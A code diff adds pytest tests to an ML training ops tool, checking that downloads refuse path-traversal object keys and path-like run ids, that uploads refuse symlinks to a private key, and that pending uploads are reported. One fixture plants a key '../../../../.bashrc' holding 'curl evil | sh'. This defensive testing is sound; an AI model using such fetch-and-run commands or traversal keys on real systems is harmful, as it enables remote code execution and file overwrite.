@@ -7,6 +7,7 @@ import numpy as np
 import pytest
 
 from ops.dataset_manifest import fetch
+from tests.ops.conftest import assert_one_line_error
 
 
 @pytest.fixture
@@ -170,3 +171,58 @@ def test_download_warns_when_the_box_holds_files_storage_lacks(s3_box, moto_serv
     assert result.returncode == 0, result.stderr
     assert "not safe to `pulumi destroy`" in result.stderr
     assert "report.md" in result.stderr
+
+
+def test_download_refuses_a_key_that_climbs_out_and_says_destroy_is_not_safe(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    _put_run(box, moto_server, bucket_uri, "r5")
+    bucket, prefix = _split(bucket_uri)
+    hostile = f"{prefix}/runs/r5/../../../../.bashrc"
+    moto_server.client().put_object(Bucket=bucket, Key=hostile, Body=b"curl evil | sh\n")
+    to = tmp_path / "a" / "b" / "c" / "results"
+    result = box.fab("download", "--run", "r5", "--to", str(to))
+    assert result.returncode == 0, result.stderr
+    assert "refused object key '../../../../.bashrc'" in result.stderr
+    assert "not safe to `pulumi destroy`: 1 stored keys were refused" in result.stderr
+    assert not (tmp_path / ".bashrc").exists()
+    assert "../../../../.bashrc" not in (to / "manifest.json").read_text()
+
+
+def test_download_refuses_a_run_id_that_is_a_path(s3_box, tmp_path):
+    box, _ = s3_box
+    result = box.fab("download", "--run", "../../etc", "--offline", "--to", str(tmp_path / "d"))
+    assert_one_line_error(result, "--run '../../etc' is not a usable name")
+
+
+def test_upload_data_refuses_a_symlink_out_of_the_dataset(tmp_path):
+    from invoke.exceptions import Exit
+
+    from ops.storage_sync import upload_dataset
+
+    data = _dataset(tmp_path / "handed-to-me")
+    (tmp_path / "id_ed25519").write_text("PRIVATE KEY\n")
+    (data / "notes.txt").symlink_to(tmp_path / "id_ed25519")
+    store = tmp_path / "store"
+    with pytest.raises(Exit, match=r"notes\.txt is a symlink to .*id_ed25519, outside"):
+        upload_dataset(data, f"file://{store}")
+    assert not store.exists()
+
+
+def test_download_of_an_upload_pending_run_says_where_the_missing_files_are(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    _put_run(box, moto_server, bucket_uri, "r6")
+    run_dir = box.root / "runs" / "r6"
+    (run_dir / "report.md").write_text("# the report\n")  # storage was down at the end
+    (run_dir / "checkpoints" / "step-000000009-epoch-0002.pt").write_bytes(b"final weights")
+    (run_dir / "status.json").write_text('{"state": "finished-upload-pending"}\n')
+    result = box.fab("download", "--run", "r6", "--to", str(tmp_path / "d"))
+    assert result.returncode == 0, result.stderr
+    advice = result.stderr.strip().splitlines()[-1]
+    assert "not safe to `pulumi destroy`: 3 files exist only on the box" in advice
+    assert "its last uploads are pending" in advice
+    assert f"{box.server.user}@{box.server.host}:{run_dir}" in advice
+    assert "docker start glucose-train-r6" in advice
